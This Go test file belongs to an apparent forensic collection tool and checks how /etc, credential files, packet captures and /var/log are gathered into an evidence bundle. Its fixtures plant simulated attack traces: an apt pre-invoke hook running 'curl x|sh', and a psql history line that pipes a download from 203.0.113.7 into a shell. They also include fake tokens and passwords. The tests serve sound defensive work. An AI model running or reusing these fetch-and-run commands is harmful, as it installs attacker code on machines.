package collector

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cordon-forensics/cordon/formats/bundle"
	"github.com/cordon-forensics/cordon/formats/snapshot"
)

// TestEtcAndCredentials: all of /etc is copied once (bounded), links not
// followed, shadow without --shadow and private keys without --credentials
// left out; credential files are listed by presence, copied only with
// --credentials; client histories are copied.
func TestEtcAndCredentials(t *testing.T) {
	root := fixtureRoot(t)
	write := func(p, s string, mode os.FileMode) {
		full := filepath.Join(root, p)
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.WriteFile(full, []byte(s), mode); err != nil {
			t.Fatal(err)
		}
	}
	write("etc/apt/apt.conf.d/99evil", "APT::Update::Pre-Invoke {\"curl x|sh\"};\n", 0o644)
	write("etc/hostname", "build-agent-7\n", 0o644)
	write("etc/ssh/ssh_host_ed25519_key", "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n", 0o600)
	write("usr/local/etc/app.conf", "token_file=/run/x\n", 0o644)
	os.Symlink("/etc/shadow", filepath.Join(root, "etc/alias-of-shadow"))
	write("root/.git-credentials", "https://ci:ghp_secret@github.com\n", 0o600)
	write("home/alice/.pgpass", "db:5432:*:postgres:hunter2\n", 0o600)
	write("root/.psql_history", "COPY (SELECT 1) TO PROGRAM 'curl -s http://203.0.113.7/x|sh';\n", 0o600)
	write("home/alice/.wget-hsts", "# HSTS 1.0 Known Hosts database for GNU Wget.\n", 0o644)

	for _, creds := range []bool{false, true} {
		opts := rootOptions(root)
		opts.CollectCredentials = creds
		b := collect(t, opts, "accounts", "etc")
		for _, p := range []string{"/etc/apt/apt.conf.d/99evil", "/etc/hostname", "/usr/local/etc/app.conf", "/root/.psql_history", "/home/alice/.wget-hsts", "/etc/passwd"} {
			checkEntry(t, b, root, p)
		}
		if _, ok := b.byHost["/etc/shadow"]; ok {
			t.Errorf("shadow copied without --shadow")
		}
		if m := b.missing("/etc/alias-of-shadow"); m != nil {
			t.Errorf("a link in /etc was recorded missing (the timeline records links): %+v", m)
		}
		var creds0 []snapshot.CredentialFile
		if err := json.Unmarshal(b.entries[snapshot.CredentialFilesEntry], &creds0); err != nil {
			t.Fatal(err)
		}
		kinds := map[string]snapshot.CredentialFile{}
		for _, c := range creds0 {
			kinds[c.Path] = c
		}
		for p, kind := range map[string]string{"/root/.git-credentials": "git-credentials", "/home/alice/.pgpass": "pgpass", "/etc/ssh/ssh_host_ed25519_key": "host-private-key"} {
			c, ok := kinds[p]
			if !ok || c.Kind != kind || c.Mode != 0o600 || c.Size == 0 {
				t.Errorf("credentials=%v: %s listed as %+v", creds, p, c)
			}
			_, copied := b.byHost[p]
			if copied != creds || (c.Entry != "") != creds {
				t.Errorf("credentials=%v: %s copied %v (entry %q)", creds, p, copied, c.Entry)
			}
		}
		for name, data := range b.entries {
			if !creds && (bytes.Contains(data, []byte("ghp_secret")) || bytes.Contains(data, []byte("hunter2"))) && name != bundle.ManifestName {
				t.Errorf("without --credentials, %s holds a secret", name)
			}
		}
		if s := sourceStatus(t, b, "etc"); s.Status != "ok" || !strings.Contains(s.Detail, "links not followed") {
			t.Errorf("etc: %+v", s)
		}
	}

	// The cap: a collection whose /etc is larger than --etc-max stops and says so.
	opts := rootOptions(root)
	opts.EtcMax = 64
	b := collect(t, opts, "etc")
	if s := sourceStatus(t, b, "etc"); s.Status != "partial" || s.Errors == 0 {
		t.Errorf("etc over --etc-max: %+v", s)
	}
}

// TestPcapFilesWithRoot: --pcap works with --root, reads the path on the
// collecting machine, and is bounded by --pcap-max.
func TestPcapFilesWithRoot(t *testing.T) {
	root := fixtureRoot(t)
	pcapFile := filepath.Join(t.TempDir(), "tap.pcapng")
	data := bytes.Repeat([]byte{0x0a, 0x0d, 0x0d, 0x0a}, 1000)
	os.WriteFile(pcapFile, data, 0o644)
	opts := rootOptions(root)
	opts.PcapFiles = []string{pcapFile}
	run, skipped, err := Selected(opts, false)
	if err != nil {
		t.Fatal(err)
	}
	selected := false
	for _, s := range run {
		selected = selected || s.Name == "pcap-files"
	}
	if !selected {
		t.Fatalf("pcap-files not run with --root: skipped %+v", skipped)
	}
	opts.PcapMax = 1000
	b := collect(t, opts, "pcap-files")
	rec, ok := b.byHost[pcapFile]
	if !ok || !rec.Truncated || rec.Size != 1000 || !bytes.Equal(b.entries[rec.Name], data[:1000]) || !strings.HasSuffix(rec.Name, ".pcapng") {
		t.Errorf("pcap entry %+v (%d bytes)", rec, len(b.entries[rec.Name]))
	}
}

// TestVarLog: the rest of /var/log is copied, what the logs source copied
// is not copied twice, and the cap stops the walk.
func TestVarLog(t *testing.T) {
	root := fixtureRoot(t)
	os.MkdirAll(filepath.Join(root, "var/log/nginx"), 0o755)
	os.WriteFile(filepath.Join(root, "var/log/nginx/access.log"), []byte("203.0.113.7 - - [02/Nov/2026:10:00:00 +0000] \"GET /.env HTTP/1.1\" 404 0\n"), 0o644)
	b := collect(t, rootOptions(root), "logs", "var-log")
	checkEntry(t, b, root, "/var/log/nginx/access.log")
	if rec := b.byHost["/var/log/nginx/access.log"]; rec.Source != "var-log" {
		t.Errorf("access.log from %q", rec.Source)
	}
	if rec := b.byHost["/var/log/auth.log"]; rec.Source != "logs" {
		t.Errorf("auth.log from %q, want the logs source (copied once)", rec.Source)
	}
	opts := rootOptions(root)
	opts.VarLogMax = 10
	b = collect(t, opts, "var-log")
	said := false
	for _, e := range b.manifest.Custody.Errors {
		said = said || e.Source == "var-log" && strings.Contains(e.Error, "--var-log-max")
	}
	if s := sourceStatus(t, b, "var-log"); s.Errors == 0 || !said {
		t.Errorf("var-log over its cap: %+v %+v", s, b.manifest.Custody.Errors)
	}
}
